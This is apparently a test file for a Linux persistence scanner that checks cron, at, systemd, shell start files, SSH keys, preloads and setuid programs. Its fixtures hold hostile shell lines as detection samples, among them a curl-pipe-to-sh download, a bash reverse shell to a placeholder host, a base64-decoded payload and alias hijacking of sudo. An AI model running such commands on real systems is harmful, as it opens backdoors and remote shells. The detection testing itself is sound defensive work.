import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { AccountSeen, Coverage } from '../../src/core/words.ts';
import { Disk } from '../../src/eyes/disk.ts';
import { startsSomething } from '../../src/eyes/persist-shell.ts';
import { persistence } from '../../src/eyes/persistence.ts';

const made: string[] = [];
afterAll(() => {
  for (const directory of made) fs.rmSync(directory, { recursive: true });
});

function account(name: string, uid: number, home: string): AccountSeen {
  const rest = { groups: [], admin: null, passwordChangedAt: null, expiresAt: null, lastLogin: null };
  return { name, uid, gid: uid, home, shell: '/bin/bash', password: 'set', canLogIn: true, system: uid < 1000, keys: 0, ...rest };
}

const PEOPLE = [account('root', 0, '/root'), account('daemon', 1, '/'), account('shop', 1001, '/home/shop')];

/** A tree of files (`-> target` makes a link), and what is found in it, short: `place path:line account | command | schedule`. */
function look(files: Readonly<Record<string, string>>, modes: Readonly<Record<string, number>> = {}) {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'tocsin-persistence-'));
  made.push(root);
  for (const [name, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(root + name), { recursive: true });
    if (text.startsWith('-> ')) fs.symlinkSync(text.slice(3), root + name);
    else fs.writeFileSync(root + name, text);
  }
  for (const [name, mode] of Object.entries(modes)) fs.chmodSync(root + name, mode);
  const coverage: Coverage[] = [];
  const entries = persistence(new Disk(root), PEOPLE, (entry) => coverage.push(entry));
  const short = entries.map((one) => {
    const where = one.line === undefined ? one.path : `${one.path}:${one.line}`;
    return [`${one.place} ${where} ${one.account}`, one.command, ...(one.schedule ? [one.schedule] : [])].join(' | ');
  });
  return { entries, short, coverage: new Map(coverage.map((entry) => [entry.source, entry])) };
}

describe('cron and at', () => {
  it('reads the tables of the system with a user and those of users without', () => {
    const { short } = look({
      '/etc/crontab': '# times\nSHELL=/bin/sh\nPATH = /bin\n\n17 *\t* * *\troot\tcd / && run-parts /etc/cron.hourly\n',
      '/etc/cron.d/backup': '@reboot www-data /srv/run A=b\n*/5 1-3 * jan mon-fri root /usr/bin/x\n',
      '/etc/cron.d/.placeholder': '* * * * * root /never\n',
      '/var/spool/cron/crontabs/shop': '# DO NOT EDIT\n* * * * * /var/tmp/.x/update >/dev/null 2>&1\n@hourly curl -s http://192.0.2.1/a\n',
      '/var/spool/cron/anna': '0 0 * * 0 /home/anna/x\n',
    });
    expect(short).toEqual([
      'cron /etc/crontab:5 root | cd / && run-parts /etc/cron.hourly | 17 * * * *',
      'cron /etc/cron.d/backup:1 www-data | /srv/run A=b | @reboot',
      'cron /etc/cron.d/backup:2 root | /usr/bin/x | */5 1-3 * jan mon-fri',
      'cron /var/spool/cron/crontabs/shop:2 shop | /var/tmp/.x/update >/dev/null 2>&1 | * * * * *',
      'cron /var/spool/cron/crontabs/shop:3 shop | curl -s http://192.0.2.1/a | @hourly',
      'cron /var/spool/cron/anna:1 anna | /home/anna/x | 0 0 * * 0',
    ]);
  });

  it('names what run-parts would run, and anacron jobs', () => {
    const { short } = look(
      {
        '/etc/cron.daily/a': '#!/bin/sh\n',
        '/etc/cron.daily/off': '',
        '/etc/cron.weekly/b': '-> /tmp/b',
        '/etc/anacrontab': 'SHELL=/bin/sh\n7 10 weekly run-parts /etc/x\n',
      },
      { '/etc/cron.daily/a': 0o755, '/etc/cron.daily/off': 0o644 },
    );
    expect(short).toEqual([
      'cron /etc/anacrontab:2 root | run-parts /etc/x | 7 10',
      'cron /etc/cron.daily/a root | /etc/cron.daily/a | daily',
      'cron /etc/cron.weekly/b root | /etc/cron.weekly/b -> /tmp/b | weekly',
    ]);
  });

  it('reads the scripts that run-parts would run, and tells the lines that run something odd', () => {
    const { short } = look(
      {
        '/etc/cron.hourly/locate2': '#!/bin/sh\n# note\ncd /usr/lib/.lib && perl s tcp l.txt 22 &\n',
        '/etc/cron.daily/logs': "#!/bin/sh\nset -e\ncd '/var/www/...'\ntest -x /usr/bin/find || exit 0\nsu -s /bin/sh www-data -c 'perl x' &\n",
        '/etc/cron.daily/honest': '#!/bin/sh\ncd /var/log\n[ -d /tmp ] && find /tmp -delete > /tmp/out\n/usr/sbin/logrotate /etc/logrotate.conf\n',
        '/etc/cron.weekly/program': '\x7fELF /tmp/.x/y\n',
      },
      Object.fromEntries(['hourly/locate2', 'daily/logs', 'daily/honest', 'weekly/program'].map((name) => [`/etc/cron.${name}`, 0o755])),
    );
    expect(short.filter((line) => / cron\/|:/.test(line))).toEqual([
      'cron /etc/cron.hourly/locate2:3 root | cd /usr/lib/.lib && perl s tcp l.txt 22 & | hourly',
      "cron /etc/cron.daily/logs:5 root | cd '/var/www/...'; su -s /bin/sh www-data -c 'perl x' & | daily",
    ]);
  });

  it('finds the job behind the environment that at writes, its owner and its minute', () => {
    const preamble = "#!/bin/sh\n# atrun uid=1001 gid=1001\n# mail shop 0\numask 22\nHOME=/home/shop; export HOME\nX='a\ncd /x'; export X\n";
    const frame = "cd /home/shop || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n";
    // 0x01b00000 minutes since 1970 = 28,311,552 minutes = 19,660 days and 1,152 minutes.
    const { short } = look({ '/var/spool/cron/atjobs/a0000101b00000': `${preamble}${frame}/tmp/.k/start\n`, '/var/spool/cron/atjobs/.SEQ': '1' });
    expect(short).toEqual([`at /var/spool/cron/atjobs/a0000101b00000:12 shop | /tmp/.k/start | ${new Date(28_311_552 * 60_000).toISOString()}`]);
  });

  it('says how many lines it did not understand', () => {
    expect(look({ '/etc/crontab': 'this is no table\n' }).coverage.get('crontabs')?.detail).toBe('1 file, 0 entries; 1 line not understood');
  });
});

describe('systemd', () => {
  it('reads commands with user and restart, timers with what they start, and drop-ins', () => {
    const { short } = look({
      '/etc/systemd/system/netd.service': '[Service]\nUser=shop\nExecStartPre=-/bin/true\nExecStart=/opt/x/netd \\\n  --quiet\nRestart=always\n',
      '/etc/systemd/system/netd.timer': '[Timer]\nOnBootSec=1min\nOnUnitActiveSec=5min\n',
      '/etc/systemd/system/other.timer': '[Timer]\nOnCalendar=*:0/5\nUnit=netd.service\n',
      '/etc/systemd/system/ssh.service.d/x.conf': '[Service]\nExecStartPost=/usr/local/bin/y\n',
      '/home/shop/.config/systemd/user/u.service': '[Service]\nExecStart=%h/.x/u\nUser=root\n',
    });
    expect(short).toEqual([
      'unit /etc/systemd/system/netd.service:3 shop | /bin/true | Restart=always',
      'unit /etc/systemd/system/netd.service:4 shop | /opt/x/netd  --quiet | Restart=always',
      'timer /etc/systemd/system/netd.timer:2 root | netd.service | OnBootSec=1min, OnUnitActiveSec=5min',
      'timer /etc/systemd/system/other.timer:2 root | netd.service | OnCalendar=*:0/5',
      'unit /etc/systemd/system/ssh.service.d/x.conf:2 null | /usr/local/bin/y',
      'unit /home/shop/.config/systemd/user/u.service:2 shop | %h/.x/u',
    ]);
  });

  it('follows links to units outside the packages once, and leaves packaged and masked ones out', () => {
    const { short } = look({
      '/srv/kit/k.service': '[Service]\nExecStart=/srv/kit/k\n',
      '/lib/systemd/system/cron.service': '[Service]\nExecStart=/usr/sbin/cron\n',
      '/etc/systemd/system/k.service': '-> /srv/kit/k.service',
      '/etc/systemd/system/multi-user.target.wants/k.service': '-> /srv/kit/k.service',
      '/etc/systemd/system/multi-user.target.wants/cron.service': '-> /lib/systemd/system/cron.service',
      '/etc/systemd/system/masked.service': '-> /dev/null',
    });
    expect(short).toEqual(['unit /srv/kit/k.service:2 root | /srv/kit/k']);
  });
});

describe('start files', () => {
  it.each([
    'nohup /usr/bin/x >/dev/null 2>&1 &',
    '(setsid /opt/x/y)',
    '/opt/x/y &',
    'curl -fsSL http://192.0.2.7/i | sh',
    'eval "$(wget -qO- http://192.0.2.7/i)"',
    'bash -i >& /dev/tcp/192.0.2.7/443 0>&1',
    'echo aGk= | base64 -d | sh',
    'export LD_PRELOAD=/usr/lib/x.so',
    '/tmp/.x/run',
    '[ -x /tmp/a ] && /tmp/a',
    'source /dev/shm/a',
    'alias sudo=/var/tmp/sudo',
    "alias ls='ls --color; ~/.hidden/x'",
    'PROMPT_COMMAND="/tmp/p; history -a"',
    'python3 ~/.x/y.py',
    'sh -c "cd / && exec /var/tmp/z"',
    "trap '/tmp/t' EXIT",
  ])('tells of %s', (line) => expect(startsSomething(line, '/home/shop')).toBe(true));

  it.each([
    '[ -f ~/.bash_aliases ] && . ~/.bash_aliases',
    'if [ -x /usr/bin/dircolors ]; then test -r ~/.dircolors && eval "$(dircolors -b ~/.dircolors)" || eval "$(dircolors -b)"; fi',
    'export NVM_DIR="$HOME/.nvm"',
    '. "$HOME/.cargo/env"',
    'export PATH="$HOME/.local/bin:$PATH"',
    'HISTFILE=/tmp/history',
    'rm -rf /tmp/build',
    'cd /tmp && ls > /tmp/list',
    '[ -z "$PS1" ] && return',
    '/usr/bin/fortune && /bin/true',
    'export EDITOR=/usr/bin/vim',
  ])('does not tell of %s', (line) => expect(startsSomething(line, '/home/shop')).toBe(false));

  it('looks in the files of the system and of each home, and names each line of sshrc', () => {
    const { short } = look({
      '/etc/profile.d/x.sh': '# nohup\nnohup /opt/a/b &\n',
      '/root/.bashrc': 'alias ll="ls -l"\nnohup \\\n /opt/c/d &\n',
      '/home/shop/.profile': '/dev/shm/.k/run\n',
      '/home/shop/.ssh/rc': 'echo hello\n',
      '/.bashrc': '/tmp/x\n',
    });
    expect(short).toEqual([
      'shell-rc /etc/profile.d/x.sh:2 null | nohup /opt/a/b &',
      'shell-rc /root/.bashrc:2 root | nohup  /opt/c/d &',
      'shell-rc /home/shop/.profile:1 shop | /dev/shm/.k/run',
      'ssh-rc /home/shop/.ssh/rc:1 shop | echo hello',
    ]);
  });
});

describe('keys, preloads, init scripts and setuid programs', () => {
  it('names each key by options, type, fingerprint and comment', () => {
    const blob = Buffer.from('\0\0\0\x0bssh-ed25519\0\0\0 0123456789abcdef0123456789abcdef');
    const key = blob.toString('base64');
    const fingerprint = `SHA256:${createHash('sha256').update(blob).digest('base64').replace('=', '')}`;
    const { short, coverage } = look({
      '/root/.ssh/authorized_keys': `# mine\n\nssh-ed25519 ${key} anna@desk\n`,
      '/home/shop/.ssh/authorized_keys2': `command="echo \\"a b\\" ssh-rsa",no-pty ssh-ed25519 ${key}\nnot a key\n`,
      '/etc/ssh/sshd_config': 'AuthorizedKeysFile .ssh/authorized_keys /etc/keys/%u\n',
      '/etc/keys/shop': `ssh-ed25519 ${key} other`,
    });
    expect(short).toEqual([
      `authorized-keys /root/.ssh/authorized_keys:3 root | ssh-ed25519 ${fingerprint} anna@desk`,
      `authorized-keys /home/shop/.ssh/authorized_keys2:1 shop | command="echo \\"a b\\" ssh-rsa",no-pty ssh-ed25519 ${fingerprint}`,
      `authorized-keys /etc/keys/shop:1 shop | ssh-ed25519 ${fingerprint} other`,
    ]);
    expect(coverage.get('authorized keys')).toEqual({
      source: 'authorized keys',
      state: 'read',
      detail: '3 files, 3 entries; 1 line not understood',
    });
  });

  it('names libraries, commands of rc.local, own init scripts and setuid programs of root', () => {
    const { short } = look(
      {
        '/etc/ld.so.preload': '# none\n/usr/lib/a.so:/lib/b.so\n',
        '/etc/rc.local': '#!/bin/sh -e\nPATH=/bin\n/opt/fw start\nexit 0\n',
        '/etc/init.d/mine': '#!/bin/sh\n',
        '/etc/init.d/README': '',
        '/etc/init.d/linked': '-> /lib/init/x',
        '/tmp/a/sh': 'x',
        '/home/shop/plain': 'x',
      },
      { '/etc/init.d/mine': 0o755, '/tmp/a/sh': 0o4755 },
    );
    // Only root can make a file that is setuid root; as anybody else the file is setuid to him, which is not told.
    const setuid = process.getuid?.() === 0 ? ["setuid /tmp/a/sh root | /tmp/a/sh (mode 4755, runs with root's rights)"] : [];
    expect(short).toEqual([
      'preload /etc/ld.so.preload:2 null | /usr/lib/a.so',
      'preload /etc/ld.so.preload:2 null | /lib/b.so',
      'init-script /etc/rc.local:3 root | /opt/fw start | boot',
      'init-script /etc/init.d/mine root | /etc/init.d/mine | boot',
      ...setuid,
    ]);
  });
});

describe('bounds and coverage', () => {
  it('says for every kind whether there was anything', () => {
    const { entries, coverage } = look({ '/etc/crontab': '' });
    expect(entries).toEqual([]);
    expect([...coverage].map(([source, { state }]) => `${source} ${state}`)).toEqual([
      'crontabs read',
      'systemd units absent',
      'at jobs absent',
      'shell start files absent',
      'authorized keys absent',
      'ld.so.preload absent',
      'init scripts absent',
      'setuid programs absent',
    ]);
  });

  it('keeps at most 500 entries of a file, 1,000 characters of a command, and says so', () => {
    const { entries, coverage } = look({
      '/var/spool/cron/crontabs/shop': `* * * * * ${'x'.repeat(1500)}\n`.repeat(600),
      '/var/spool/cron/crontabs/z': '* * * * * /a\n',
    });
    expect(entries).toHaveLength(501);
    expect(entries[0]?.command).toHaveLength(1000);
    expect(coverage.get('crontabs')?.state).toBe('partial');
  });

  it('keeps the bytes of names and the time of the last change', () => {
    const root = fs.mkdtempSync(path.join(os.tmpdir(), 'tocsin-persistence-'));
    made.push(root);
    fs.mkdirSync(`${root}/etc/cron.d`, { recursive: true });
    const name = Buffer.concat([Buffer.from(`${root}/etc/cron.d/a`), Buffer.from([0xff])]);
    fs.writeFileSync(name, '* * * * * root /b\n');
    const [entry] = persistence(new Disk(root), PEOPLE, () => {});
    expect(entry?.path).toBe('/etc/cron.d/a\udcff');
    expect(entry?.changedAt).toBe(Math.floor(fs.statSync(name).ctimeMs));
  });

  it('says when a place is no file that can be read', () => {
    const { coverage } = look({ '/etc/crontab/x': '' });
    expect(coverage.get('crontabs')).toEqual({
      source: 'crontabs',
      state: 'unreadable',
      detail: '0 files, 0 entries; not a regular file: /etc/crontab',
    });
  });
});
